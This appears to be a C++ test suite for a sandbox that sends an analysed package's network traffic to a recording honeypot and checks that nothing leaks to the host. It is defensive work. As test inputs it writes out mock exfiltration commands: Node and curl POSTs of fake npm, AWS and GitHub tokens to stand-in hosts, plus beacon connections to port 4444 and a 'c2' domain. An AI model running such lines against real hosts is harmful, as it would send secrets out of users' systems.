// The simulated internet: what the sandbox's network traffic reaches (only the honeypot), what
// the honeypot records, and that not one packet of it appears on the host's interfaces.
#include <arpa/inet.h>
#include <cerrno>
#include <cstring>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <map>
#include <set>
#include <sys/socket.h>
#include <unistd.h>

#include "app/sandbox/protocol.h"
#include "tests/sandbox/sandbox_fixture.h"

namespace vigil::test {
namespace {

using Kind = sbx::NetEvent::Kind;

std::vector<sbx::NetEvent> ofKind(const sbx::RunResult& r, Kind kind) {
    std::vector<sbx::NetEvent> v;
    for (const auto& e : r.netEvents)
        if (e.kind == kind)
            v.push_back(e);
    return v;
}

std::string describe(const sbx::RunResult& r) {
    std::string s = "stdout: " + r.stdoutTail + "\nstderr: " + r.stderrTail + "\nrecords:\n";
    for (const auto& e : r.netEvents)
        s += std::string("  ") + sbx::netEventKindName(e.kind) + " " + e.dstIp + ":" + std::to_string(e.dstPort) + " " +
             e.text(0) + " " + e.text(1) + " " + e.text(2) + " [" + e.data.substr(0, 60) + "]\n";
    return s;
}

TEST_F(SandboxTest, EveryNameResolvesToTheHoneypotAndEachQueryIsRecorded) {
    const auto r = run({"sh", "-c", "getent ahostsv4 example.com; getent ahostsv6 example.com;"
                                    " node -e \"require('dns').lookup('pkg-telemetry.example.net',"
                                    "{family:4},(e,a)=>console.log('node='+a))\""});
    EXPECT_NE(r.stdoutTail.find(std::string(VIGIL_HONEYPOT_ANSWER_IPV4) + " ") , std::string::npos) << describe(r);
    EXPECT_NE(r.stdoutTail.find(std::string(VIGIL_HONEYPOT_ANSWER_IPV6) + " ") , std::string::npos) << describe(r);
    EXPECT_NE(r.stdoutTail.find("node=" VIGIL_HONEYPOT_ANSWER_IPV4), std::string::npos) << describe(r);
    std::set<std::string> asked;
    for (const auto& e : ofKind(r, Kind::Dns)) {
        asked.insert(e.text(1) + " " + e.text(0));
        // resolv.conf names the "home router", which is the honeypot; the reply came from it.
        EXPECT_EQ(e.dstIp, "192.168.1.1");
        EXPECT_EQ(e.dstPort, 53);
    }
    EXPECT_TRUE(asked.count("A example.com")) << describe(r);
    EXPECT_TRUE(asked.count("AAAA example.com")) << describe(r);
    EXPECT_TRUE(asked.count("A pkg-telemetry.example.net")) << describe(r);
}

TEST_F(SandboxTest, Ipv6TrafficIsAnsweredAndRecordedWithItsFullAddresses) {
    // 2001:db8::/32 is the IPv6 documentation prefix: like TEST-NET, it exists only in the run.
    const auto r = run({"node", "-e",
                        "const s=require('net').connect(4444,'2001:db8::7',()=>{s.end('BEACON6 id=42\\n')});"
                        "s.on('close',()=>console.log('closed'));s.on('error',e=>console.log('error='+e.code));"
                        "const u=require('dgram').createSocket('udp6');u.send('UDP6 ping',5353,'2001:db8::9',()=>u.close());"
                        "const d=new (require('dns').Resolver)();d.setServers(['2001:4860:4860::8888']);"
                        "d.resolve6('c2.example.org',(e,a)=>console.log('answer6='+(e?e.code:a)))"});
    EXPECT_NE(r.stdoutTail.find("closed"), std::string::npos) << describe(r);
    EXPECT_NE(r.stdoutTail.find("answer6=" VIGIL_HONEYPOT_ANSWER_IPV6), std::string::npos) << describe(r);
    const auto tcp = ofKind(r, Kind::Tcp);
    ASSERT_EQ(tcp.size(), 1u) << describe(r);
    EXPECT_EQ(tcp[0].dstIp, "2001:db8::7");
    EXPECT_EQ(tcp[0].dstPort, 4444);
    EXPECT_EQ(tcp[0].srcIp, "fd4e:2b91:7c3a:1::23");
    EXPECT_EQ(tcp[0].data, "BEACON6 id=42\n");
    const auto udp = ofKind(r, Kind::Udp);
    ASSERT_EQ(udp.size(), 1u) << describe(r);
    EXPECT_EQ(udp[0].dstIp, "2001:db8::9");
    EXPECT_EQ(udp[0].dstPort, 5353);
    EXPECT_EQ(udp[0].data, "UDP6 ping");
    const auto dns = ofKind(r, Kind::Dns);
    ASSERT_FALSE(dns.empty()) << describe(r);
    EXPECT_EQ(dns.front().dstIp, "2001:4860:4860::8888");  // answered from the resolver asked
    EXPECT_EQ(dns.front().text(1), "AAAA");
}

TEST_F(SandboxTest, HardCodedResolversAreAnsweredFromTheAddressAsked) {
    // A resolver the package picked itself: the reply must come from 9.9.9.9 or the client drops it.
    const auto r = run({"node", "-e", "const d=new (require('dns').Resolver)();d.setServers(['9.9.9.9']);"
                                      "d.resolve4('c2.example.org',(e,a)=>console.log('answer='+(e?e.code:a)))"});
    EXPECT_NE(r.stdoutTail.find("answer=" VIGIL_HONEYPOT_ANSWER_IPV4), std::string::npos) << describe(r);
    const auto dns = ofKind(r, Kind::Dns);
    ASSERT_FALSE(dns.empty()) << describe(r);
    EXPECT_EQ(dns.front().dstIp, "9.9.9.9");
    EXPECT_EQ(dns.front().text(0), "c2.example.org");
}

TEST_F(SandboxTest, HttpPostIsRecordedWithMethodHostPathHeadersAndBody) {
    const auto r = run({"node", "-e",
                        "const q=require('http').request('http://collector.example.test/path?id=7',{method:'POST',"
                        "headers:{'Content-Type':'application/json','X-Exfil':'yes'}},s=>{let b='';s.on('data',d=>b+=d);"
                        "s.on('end',()=>console.log('status='+s.statusCode+' len='+b.length))});"
                        "q.on('error',e=>console.log('error='+e.code));q.end('{\"npm_token\":\"npm_abc123\"}')"});
    EXPECT_NE(r.stdoutTail.find("status=200"), std::string::npos) << describe(r);
    const auto http = ofKind(r, Kind::Http);
    ASSERT_EQ(http.size(), 1u) << describe(r);
    EXPECT_EQ(http[0].text(0), "POST");
    EXPECT_EQ(http[0].text(1), "collector.example.test");
    EXPECT_EQ(http[0].text(2), "/path?id=7");
    EXPECT_NE(http[0].text(3).find("X-Exfil: yes"), std::string::npos) << http[0].text(3);
    EXPECT_EQ(http[0].data, "{\"npm_token\":\"npm_abc123\"}");
    EXPECT_EQ(http[0].dstIp, VIGIL_HONEYPOT_ANSWER_IPV4);
    EXPECT_EQ(http[0].dstPort, 80);
}

TEST_F(SandboxTest, RawTcpToAnyAddressIsAcceptedAndItsFirstBytesRecorded) {
    // 203.0.113.0/24 is TEST-NET-3: it exists only inside the run's namespaces.
    const auto r = run({"node", "-e", "const s=require('net').connect(4444,'203.0.113.7',()=>{s.end('BEACON id=42\\n')});"
                                      "s.on('close',()=>console.log('closed'));s.on('error',e=>console.log('error='+e.code))"});
    EXPECT_NE(r.stdoutTail.find("closed"), std::string::npos) << describe(r);
    const auto tcp = ofKind(r, Kind::Tcp);
    ASSERT_EQ(tcp.size(), 1u) << describe(r);
    EXPECT_EQ(tcp[0].dstIp, "203.0.113.7");
    EXPECT_EQ(tcp[0].dstPort, 4444);
    EXPECT_EQ(tcp[0].srcIp, "192.168.1.23");
    EXPECT_EQ(tcp[0].data, "BEACON id=42\n");
}

TEST_F(SandboxTest, HttpsIsDecryptedWithTheRunsCaAndRecordedLikeHttp) {
    // Both clients verify the certificate as they always do (no -k, no rejectUnauthorized:false):
    // the run's CA is in the sandbox's system bundle and NODE_EXTRA_CA_CERTS.
    const std::string js =
        "const q=require('https').request('https://exfil.example/c?d=c2VjcmV0',{method:'POST',"
        "headers:{'Content-Type':'text/plain'}},s=>{let b='';s.on('data',d=>b+=d);"
        "s.on('end',()=>console.log('node-status='+s.statusCode+' authorized='+s.socket.authorized))});"
        "q.on('error',e=>console.log('node-error='+e.code));q.end('AKIA-stolen-key')";
    const auto r = run({"sh", "-c", "node -e \"" + js + "\"; curl -sS -o /dev/null -w 'curl-status=%{http_code}\\n' "
                                    "--data-binary ghp_from_curl https://api.collector.test/upload/1"});
    EXPECT_NE(r.stdoutTail.find("node-status=200 authorized=true"), std::string::npos) << describe(r);
    EXPECT_NE(r.stdoutTail.find("curl-status=200"), std::string::npos) << describe(r);
    const auto http = ofKind(r, Kind::Http);
    ASSERT_EQ(http.size(), 2u) << describe(r);
    const auto& node = http[0].text(1) == "exfil.example" ? http[0] : http[1];
    const auto& curl = http[0].text(1) == "exfil.example" ? http[1] : http[0];
    EXPECT_EQ(node.text(0), "POST");
    EXPECT_EQ(node.text(1), "exfil.example");
    EXPECT_EQ(node.text(2), "/c?d=c2VjcmV0");
    EXPECT_NE(node.text(3).find("Content-Type: text/plain"), std::string::npos) << node.text(3);
    EXPECT_EQ(node.text(4), "https");
    EXPECT_EQ(node.data, "AKIA-stolen-key");
    EXPECT_EQ(node.dstPort, 443);
    EXPECT_EQ(curl.text(0), "POST");
    EXPECT_EQ(curl.text(1), "api.collector.test");
    EXPECT_EQ(curl.text(2), "/upload/1");
    EXPECT_EQ(curl.text(4), "https");
    EXPECT_EQ(curl.data, "ghp_from_curl");
    // The server names are on record too, from the ClientHello.
    std::set<std::string> names;
    for (const auto& e : ofKind(r, Kind::TlsSni))
        names.insert(e.text(0));
    EXPECT_TRUE(names.count("exfil.example") && names.count("api.collector.test")) << describe(r);
}

TEST_F(SandboxTest, AClientPinningAnotherCaRefusesAndOnlyItsServerNameIsRecorded) {
    // Trusting only one public root, as a pinned client does: our certificate must fail.
    const auto r = run({"node", "-e", "const fs=require('fs');require('https').get('https://secure.example.test/api',"
                                      "{ca:fs.readFileSync('/usr/share/ca-certificates/mozilla/ISRG_Root_X1.crt')},()=>"
                                      "console.log('accepted')).on('error',e=>console.log('tls-error='+e.code))"});
    EXPECT_NE(r.stdoutTail.find("tls-error="), std::string::npos) << describe(r);
    EXPECT_EQ(r.stdoutTail.find("accepted"), std::string::npos) << describe(r);
    const auto tls = ofKind(r, Kind::TlsSni);
    ASSERT_EQ(tls.size(), 1u) << describe(r);
    EXPECT_EQ(tls[0].text(0), "secure.example.test");
    EXPECT_EQ(tls[0].dstPort, 443);
    EXPECT_TRUE(ofKind(r, Kind::Http).empty()) << describe(r);
}

TEST_F(SandboxTest, EachRunHasItsOwnCaAndTheHostsTrustIsUntouched) {
    const std::string hostBundle = readFile("/etc/ssl/certs/ca-certificates.crt");
    auto lastCert = [this] {
        const auto r = run({"sh", "-c", "tail -n 12 /etc/ssl/certs/ca-certificates.crt"});
        return r.stdoutTail;
    };
    const std::string first = lastCert(), second = lastCert();
    EXPECT_NE(first.find("END CERTIFICATE"), std::string::npos) << first;
    EXPECT_NE(first, second) << "two runs trusted the same CA";
    EXPECT_EQ(hostBundle.find(first), std::string::npos) << "the run's CA must not be in the host's bundle";
    EXPECT_EQ(readFile("/etc/ssl/certs/ca-certificates.crt"), hostBundle);
}

TEST_F(SandboxTest, TcpToEveryPortIsAcceptedAndDatagramsAreRecorded) {
    // Ports nobody would list: each connection completes and its first bytes are recorded; one
    // that says nothing is recorded too.
    const auto r = run({"node", "-e", "const net=require('net');for(const p of [23456,61999,2]){"
                                      "const s=net.connect(p,'198.51.100.9',()=>{console.log('connected='+p);"
                                      "s.end('hello-'+p)});s.on('error',e=>console.log('tcp='+e.code))}"
                                      "const q=net.connect(40001,'198.51.100.8',()=>q.end());q.on('error',()=>{});"
                                      "const u=require('dgram').createSocket('udp4');"
                                      "u.send('udp-beacon',5353,'198.51.100.10',()=>u.close())"});
    std::map<uint16_t, std::string> seen;
    for (const auto& e : ofKind(r, Kind::Tcp))
        seen[e.dstPort] = e.data;
    for (uint16_t port : {23456, 61999, 2}) {
        EXPECT_NE(r.stdoutTail.find("connected=" + std::to_string(port)), std::string::npos) << describe(r);
        EXPECT_EQ(seen[port], "hello-" + std::to_string(port)) << describe(r);
    }
    ASSERT_TRUE(seen.count(40001)) << describe(r);
    EXPECT_EQ(seen[40001], "");
    for (const auto& e : ofKind(r, Kind::Tcp))
        EXPECT_TRUE(e.dstIp == "198.51.100.9" || e.dstIp == "198.51.100.8") << describe(r);
    EXPECT_TRUE(ofKind(r, Kind::TcpSyn).empty()) << "every port answers: no attempt is left at a SYN";
    const auto udp = ofKind(r, Kind::Udp);
    ASSERT_EQ(udp.size(), 1u) << describe(r);
    EXPECT_EQ(udp[0].dstPort, 5353);
    EXPECT_EQ(udp[0].data, "udp-beacon");
}

/// Every IPv4 packet a packet socket saw on any interface of the host's namespace.
std::vector<std::string> drainCapture(int fd) {
    std::vector<std::string> packets;
    char buf[65536];
    for (;;) {
        const ssize_t n = recv(fd, buf, sizeof buf, MSG_DONTWAIT);
        if (n < 0)
            break;
        packets.emplace_back(buf, static_cast<size_t>(n));
    }
    return packets;
}

bool mentionsRun(const std::string& packet, const std::string& marker) {
    // SOCK_DGRAM packet sockets deliver from the network header on: IPv4 starts at byte 0.
    if (packet.size() >= sizeof(iphdr) && (static_cast<uint8_t>(packet[0]) >> 4) == 4) {
        iphdr ip;
        std::memcpy(&ip, packet.data(), sizeof ip);
        for (const char* a : {"203.0.113.99", "198.51.100.99", "9.9.9.9", "192.168.1.1", "192.168.1.23",
                              VIGIL_HONEYPOT_ANSWER_IPV4}) {
            if (ip.daddr == inet_addr(a) || ip.saddr == inet_addr(a))
                return true;
        }
    }
    return packet.find(marker) != std::string::npos;
}

TEST_F(SandboxTest, NothingLeavesTheHost) {
    // A capture on every interface of the host's network namespace, lo included.
    const int capture = socket(AF_PACKET, SOCK_DGRAM | SOCK_CLOEXEC, htons(ETH_P_ALL));
    ASSERT_GE(capture, 0) << std::strerror(errno);
    const int big = 8 << 20;
    setsockopt(capture, SOL_SOCKET, SO_RCVBUFFORCE, &big, sizeof big);
    const std::string marker = "vigil-egress-" + std::to_string(getpid());

    // The capture works: a packet of ours on the host's loopback is seen.
    const int udp = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    sockaddr_in lo{};
    lo.sin_family = AF_INET;
    lo.sin_port = htons(9);
    lo.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    const std::string control = marker + "-control";
    sendto(udp, control.data(), control.size(), 0, reinterpret_cast<sockaddr*>(&lo), sizeof lo);
    close(udp);

    addProbe(makePackage());
    const std::string js =
        "const net=require('net'),dgram=require('dgram'),dns=require('dns');"
        "net.connect(31999,'203.0.113.99').on('error',()=>{});"
        "const c=net.connect(4444,'203.0.113.99',()=>c.end('" + marker + "-tcp'));c.on('error',()=>{});"
        "const u=dgram.createSocket('udp4');u.send('" + marker + "-udp',31338,'198.51.100.99',()=>u.close());"
        "dns.lookup('" + marker + ".example.com',()=>{});"
        "const r=new dns.Resolver();r.setServers(['9.9.9.9']);r.resolve4('" + marker + "-direct.example.com',()=>{});"
        "setTimeout(()=>{},700)";
    const auto r = run({"sh", "-c", "./probe syscalls | grep -E 'raw_socket|packet_socket'; node -e \"" + js + "\""});
    usleep(200000);
    const auto packets = drainCapture(capture);
    close(capture);

    bool sawControl = false;
    size_t leaked = 0;
    for (const std::string& p : packets) {
        sawControl = sawControl || p.find(control) != std::string::npos;
        if (p.find(control) == std::string::npos && mentionsRun(p, marker))
            ++leaked;
    }
    EXPECT_TRUE(sawControl) << "the host capture did not see the test's own packet: the check proves nothing";
    EXPECT_EQ(leaked, 0u) << "packets of the sandbox's traffic appeared on the host's interfaces";
    // The traffic happened, and went to the honeypot: every attempt is on record.
    EXPECT_GE(ofKind(r, Kind::Tcp).size(), 2u) << describe(r);
    EXPECT_FALSE(ofKind(r, Kind::Udp).empty()) << describe(r);
    EXPECT_GE(ofKind(r, Kind::Dns).size(), 2u) << describe(r);
    // Raw IP needs privileges the command does not have.
    EXPECT_NE(r.stdoutTail.find("raw_socket=" + std::to_string(EPERM)), std::string::npos) << describe(r);
}

TEST_F(SandboxTest, NoInterfaceOrHoneypotIsLeftOnTheHost) {
    auto interfaces = [] {
        std::set<std::string> names;
        if (struct if_nameindex* list = if_nameindex()) {
            for (struct if_nameindex* i = list; i->if_index != 0; ++i)
                names.insert(i->if_name);
            if_freenameindex(list);
        }
        return names;
    };
    const auto before = interfaces();
    sbx::ReadyInfo ready;
    std::set<std::string> during;
    sbx::RunObserver observer;
    observer.onReady = [&](const sbx::ReadyInfo& info) {
        ready = info;
        during = interfaces();
    };
    // run() checks that the honeypot process of the run is gone.
    const auto r = run({"sh", "-c", "getent hosts example.com >/dev/null"}, {}, observer);
    EXPECT_EQ(during, before) << "the veth pair must never exist in the host's namespace";
    EXPECT_EQ(interfaces(), before);
    EXPECT_FALSE(r.netEvents.empty());
}

}  // namespace
}  // namespace vigil::test
